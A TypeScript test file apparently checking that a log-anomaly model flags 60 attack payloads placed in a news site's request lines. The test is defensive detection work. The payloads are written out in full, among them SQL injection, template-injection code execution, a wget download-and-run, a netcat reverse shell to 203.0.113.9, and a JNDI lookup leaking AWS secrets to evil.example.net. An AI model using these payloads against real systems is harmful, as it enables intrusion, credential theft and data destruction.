// Issue 24: attack families beyond the generators' (site.ts draws its own), on the news site's
// model (seed 1, clean protocol): 60 payloads of 12 families (template engines, NoSQL, prototype
// pollution, deserialization, stacked SQL, polyglot XSS, newline and IFS commands, Windows and
// Java paths, XXE, LDAP and XPath, SpEL and OGNL, SSRF by scheme and address form), each put where
// an attacker controls a request line: a parameter the site has, one it never had, a path segment
// and the user agent. Every one is scored by the real module, one line each.
import { beforeAll, describe, expect, it } from "vitest";
import { coreWasm } from "../helpers.js";
import { ModuleDriver } from "../../host/core/module/driver.js";
import { packedModule, trainModel } from "./measure.js";
import { siteLog } from "./site.js";
import { pct } from "./labelled.js";

const PAYLOADS: Record<string, string> = {
  "ssti-jinja": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "ssti-erb": "<%= `id` %>",
  "ssti-freemarker": '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  "ssti-velocity": '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
  "nosql-where": "';return this.password.match(/^a/)//",
  "nosql-regex": '{"$regex":".*"}',
  "nosql-gt": "admin&password[$gt]=",
  "proto-pollution": "__proto__[isAdmin]=true",
  "proto-constructor": "constructor.prototype.polluted=1",
  "deser-java": "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
  "deser-php": 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
  "graphql-introspection": "{__schema{types{name,fields{name}}}}",
  "csv-formula": "=cmd|' /C calc'!A0",
  "header-crlf": "foo\r\nX-Injected: yes",
  "open-redirect": "https://evil.example.net/phish",
  "open-redirect-slash": "/\\evil.example.net",
  "sqli-stacked": "1; DROP TABLE users",
  "sqli-error": "1 AND extractvalue(1,concat(0x7e,version()))",
  "sqli-order": "1 ORDER BY 10--",
  "sqli-hex": "0x61646d696e",
  "sqli-comment": "admin'/**/OR/**/1=1#",
  "sqli-pg": "1;SELECT pg_sleep(10)--",
  "sqli-mssql": "1;EXEC xp_cmdshell('whoami')--",
  "sqli-blind": "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
  "xss-polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
  "xss-iframe": '<iframe src="javascript:alert(1)">',
  "xss-body": "<body onload=alert(1)>",
  "xss-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
  "xss-data-uri": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "xss-break-out": '"><script src=//evil.example.net/x.js></script>',
  "cmd-newline": "\nid",
  "cmd-ifs": ";cat${IFS}/etc/passwd",
  "cmd-wget": ";wget http://203.0.113.9/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b",
  "cmd-powershell": "|powershell -enc SQBFAFgA",
  "cmd-netcat": "; nc -e /bin/sh 203.0.113.9 4444",
  "trav-semicolon": "..;/..;/WEB-INF/web.xml",
  "trav-absolute": "/etc/shadow",
  "trav-windows": "C:\\Windows\\System32\\drivers\\etc\\hosts",
  "trav-proc": "../../../../proc/self/environ",
  "lfi-log": "../../../../var/log/nginx/access.log",
  "rfi": "http://203.0.113.9/shell.txt?",
  "xxe": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example.net/x.dtd"> %x;]>',
  "ldap": "admin)(&(password=*))",
  "xpath": "']/..//*[contains(.,'pass')]|//*['",
  "jndi-env": "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example.net}",
  "jndi-upper": "${${upper:j}ndi:rmi://evil.example.net/o}",
  "spel": "T(java.lang.Runtime).getRuntime().exec('id')",
  "ognl": "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}",
  "ssrf-decimal": "http://2130706433/admin",
  "ssrf-gcp": "http://metadata.google.internal/computeMetadata/v1/",
  "ssrf-dict": "dict://127.0.0.1:6379/info",
  "ssrf-ipv6": "http://[::1]:8080/",
  "ssrf-escaped-scheme": "h%74tp://127.0.0.1/admin",
  "shellshock": "() { ignored; }; echo; /bin/cat /etc/passwd",
  "php-input": "php://input",
  "php-expect": "expect://id",
  "zip-wrapper": "zip://uploads/a.jpg#shell.php",
  "email-header": "victim@example.com\nBcc: all@example.com",
  "overlong": "B".repeat(2500),
  "format-string": "%s%s%s%s%s%n",
};
const PLACES = ["known parameter", "unknown parameter", "path", "user agent"] as const;

// A value as a client sends it in a URL: reserved bytes escaped, an escape already in it kept.
const inUrl = (v: string) => (/%[0-9a-fA-F]{2}/.test(v) && !/[%]s/.test(v) ? v : encodeURIComponent(v));
const agentOf = (v: string) => v.replace(/\\/g, "\\\\").replace(/"/g, '\\"').replace(/\r/g, "\\r").replace(/\n/g, "\\n");
const BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36";

function lineOf(place: (typeof PLACES)[number], payload: string): string {
  const request = {
    "known parameter": `/search?q=${inUrl(payload)}&section=world`,
    "unknown parameter": `/api/v1/articles?section=world&since=2024-03-12T00:00:00Z&callback=${inUrl(payload)}`,
    path: `/news/world/${inUrl(payload)}`,
    "user agent": "/news/world",
  }[place];
  const agent = place === "user agent" ? agentOf(payload) : BROWSER;
  return `81.14.66.243 - - [12/Mar/2024:10:00:21 +0100] "GET ${request} HTTP/1.1" 200 6888 "https://www.daily-example.com/" "${agent}"`;
}

// Flagged of the 240 as measured at this commit; a fall below it by more than 2 lines fails. The
// goal is the for another site in all, and its evasion floor (90%) in each place.
const TODAY = 234;
const GOAL = { all: 0.95, place: 0.9 };

describe("attack families the generators do not draw (issue 24)", () => {
  let driver: ModuleDriver;
  let flagged: Map<string, boolean>;

  beforeAll(() => {
    const core = coreWasm();
    driver = ModuleDriver.fromBytes(packedModule(core, trainModel(core, siteLog(1).training.map((x) => x.line))));
    flagged = new Map();
    for (const [name, payload] of Object.entries(PAYLOADS)) for (const place of PLACES) flagged.set(`${name} in ${place}`, driver.score(lineOf(place, payload)).anomaly);
  });

  it("are lines of the site's own format, one a payload and place", () => {
    expect(Object.keys(PAYLOADS).length).toBe(60);
    expect(lineOf("known parameter", PAYLOADS["sqli-stacked"])).toContain("q=1%3B%20DROP%20TABLE%20users&");
    expect(lineOf("user agent", PAYLOADS["cmd-newline"])).toMatch(/"\\nid"$/);
  });

  it(`are flagged at least ${pct(GOAL.all)} in all and ${pct(GOAL.place)} in each place`, () => {
    const missed = [...flagged].filter(([, f]) => !f).map(([k]) => k);
    const total = flagged.size;
    console.log(`attack families: ${total - missed.length} of ${total} flagged (${pct((total - missed.length) / total)}); missed: ${missed.join(", ") || "none"}`);
    expect(total - missed.length).toBeGreaterThanOrEqual(Math.max(Math.ceil(GOAL.all * total), TODAY - 2));
    for (const place of PLACES) {
      const inPlace = [...flagged].filter(([k]) => k.endsWith(` in ${place}`));
      expect(inPlace.filter(([, f]) => f).length / inPlace.length, place).toBeGreaterThanOrEqual(GOAL.place);
    }
  });

  it("the same lines without a payload are not flagged", () => {
    const benign = { "known parameter": "storm+warning", "unknown parameter": "jsonp_48120", path: "storm-warning-coast-48120", "user agent": BROWSER };
    for (const place of PLACES) expect(driver.score(lineOf(place, benign[place])).anomaly, place).toBe(false);
  });
});
